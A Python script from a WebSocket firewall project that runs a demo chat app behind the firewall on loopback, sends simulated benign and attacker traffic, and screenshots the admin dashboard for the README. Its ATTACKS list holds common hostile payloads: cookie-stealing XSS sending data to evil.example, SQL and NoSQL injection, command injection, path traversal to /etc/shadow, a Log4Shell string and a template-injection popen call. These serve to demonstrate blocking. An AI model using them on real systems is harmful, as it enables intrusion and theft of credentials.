#!/usr/bin/env python3
"""Screenshot of the admin dashboard with live traffic, for the README (docs/dashboard.png).

Starts the bundled demo app and ``twistd wsfw`` in front of it (loopback,
fresh ports), drives chat traffic from several loopback client addresses
(127.0.0.2-127.0.0.9: Linux routes all of 127/8 to lo) with a few attackers
among them, then loads the dashboard in Debian's headless Chromium through
Selenium and saves a PNG. Nothing is downloaded: the browser and its driver
are /usr/bin/chromium and /usr/bin/chromedriver (``apt-get install chromium
chromium-driver``).

    .venv/bin/python packaging/screenshot.py --seconds 90 --out docs/dashboard.png
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

from websockets.sync.client import connect

HERE = os.path.dirname(os.path.abspath(__file__))
BIN = os.path.dirname(sys.executable)

BENIGN = ["hi all", "lunch at 12:30?", "see the deploy notes in #ops", "👍 merged", "who has the pager?",
          "SELECT a seat near the window, please", "meeting moved to room 4 <3", "release 2.4 is out",
          "can someone review PR 1182", "brb"]
ATTACKS = [
    "<img src=x onerror=alert(document.cookie)>",
    "1' UNION SELECT username, password FROM users--",
    "; cat /etc/passwd",
    "../../../../etc/shadow",
    "${jndi:ldap://198.51.100.7/a}",
    "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "x' OR '1'='1' -- ",
    '{"$where": "sleep(5000)"}',
]


def wait_line(proc: subprocess.Popen, pattern: str, seen: list[str], timeout: float = 60.0) -> re.Match:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        if not line:
            raise SystemExit(f"{proc.args[0]} exited:\n{''.join(seen)}")
        seen.append(line)
        match = re.search(pattern, line)
        if match:
            return match
    raise SystemExit(f"timed out waiting for {pattern!r}:\n{''.join(seen)}")


def drain(proc: subprocess.Popen) -> None:
    threading.Thread(target=lambda: [None for _ in proc.stdout], daemon=True).start()


def client(port: int, source: str):
    sock = socket.create_connection(("127.0.0.1", port), source_address=(source, 0))
    return connect(f"ws://127.0.0.1:{port}/ws/chat", sock=sock, open_timeout=10)


def chatter(port: int, source: str, name: str, until: float, attack_every: float | None, rng: random.Random):
    """One client: chats at a wandering rate; an attacker also sends an attack now and then (and is cut off)."""
    next_attack = time.monotonic() + (attack_every * rng.uniform(0.3, 1.0) if attack_every else float("inf"))
    while time.monotonic() < until:
        try:
            with client(port, source) as ws:
                while time.monotonic() < until:
                    if time.monotonic() >= next_attack:
                        next_attack = time.monotonic() + attack_every * rng.uniform(0.6, 1.4)
                        ws.send(json.dumps({"name": name, "text": rng.choice(ATTACKS)}))
                        ws.recv(timeout=5)  # the 1008 close ends this connection
                    ws.send(json.dumps({"name": name, "text": rng.choice(BENIGN)}))
                    phase = (time.monotonic() % 60) / 60
                    time.sleep(rng.uniform(0.05, 0.25) * (1.5 - abs(phase - 0.5)))
        except Exception:
            time.sleep(0.5)  # blocked (1008) or the chat hiccupped: reconnect


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=90.0, help="traffic before the screenshot")
    parser.add_argument("--out", default=os.path.join(HERE, "..", "docs", "dashboard.png"))
    parser.add_argument("--width", type=int, default=1440)
    parser.add_argument("--height", type=int, default=1250)
    args = parser.parse_args()

    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    procs: list[subprocess.Popen] = []
    try:
        demo = subprocess.Popen([sys.executable, "-m", "wsfw.demo", "--listen", "tcp:0:interface=127.0.0.1"],
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                env=dict(os.environ, PYTHONUNBUFFERED="1"))
        procs.append(demo)
        upstream = int(wait_line(demo, r"port=(\d+)", []).group(1))
        drain(demo)
        folder = tempfile.mkdtemp(prefix="wsfw-shot-")
        config = os.path.join(folder, "wsfw.ini")
        with open(config, "w") as f:
            f.write(f"[listen:public]\nendpoint = tcp:0:interface=127.0.0.1\n"
                    f"[route:chat]\npath = /ws/chat\nupstream = ws://127.0.0.1:{upstream}\n"
                    f"[route:app]\npath = /\nupstream = ws://127.0.0.1:{upstream}\n"
                    f"[admin]\nendpoint = tcp:0:interface=127.0.0.1\n[log]\nconnections = no\n")
        wsfw = subprocess.Popen([os.path.join(BIN, "twistd"), "-n", "--pidfile=", "wsfw", "--config", config],
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                env=dict(os.environ, PYTHONUNBUFFERED="1"))
        procs.append(wsfw)
        seen: list[str] = []
        admin = int(wait_line(wsfw, r"listening \[admin\] on [^ ]*:(\d+) ", seen).group(1))
        public = int(wait_line(wsfw, r"listening \[listen:public\] on [^ ]*:(\d+) ", seen).group(1))
        drain(wsfw)

        rng = random.Random(7)
        until = time.monotonic() + args.seconds
        threads = []
        people = ["ana", "bo", "chen", "dee", "eli", "fay"]
        for i, name in enumerate(people):
            threads.append(threading.Thread(target=chatter, args=(public, f"127.0.0.{2 + i}", name, until, None,
                                                                  random.Random(i)), daemon=True))
        for i, (source, every) in enumerate((("127.0.0.66", 4.0), ("127.0.0.77", 9.0), ("127.0.0.88", 15.0))):
            threads.append(threading.Thread(target=chatter, args=(public, source, f"x{i}", until, every,
                                                                  random.Random(100 + i)), daemon=True))
        for t in threads:
            t.start()

        options = webdriver.ChromeOptions()
        options.binary_location = "/usr/bin/chromium"
        for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                     f"--window-size={args.width},{args.height}", "--hide-scrollbars", "--force-device-scale-factor=1"):
            options.add_argument(flag)
        driver = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)
        try:
            driver.get(f"http://127.0.0.1:{admin}/")
            while time.monotonic() < until - 1.5:  # shoot while the traffic still flows
                time.sleep(0.5)
            out = os.path.abspath(args.out)
            os.makedirs(os.path.dirname(out), exist_ok=True)
            driver.save_screenshot(out)
            print(f"wrote {out}")
        finally:
            driver.quit()
        return 0
    finally:
        for proc in reversed(procs):
            if proc.poll() is None:
                proc.send_signal(signal.SIGTERM)
                try:
                    proc.wait(10)
                except subprocess.TimeoutExpired:
                    proc.kill()


if __name__ == "__main__":
    raise SystemExit(main())
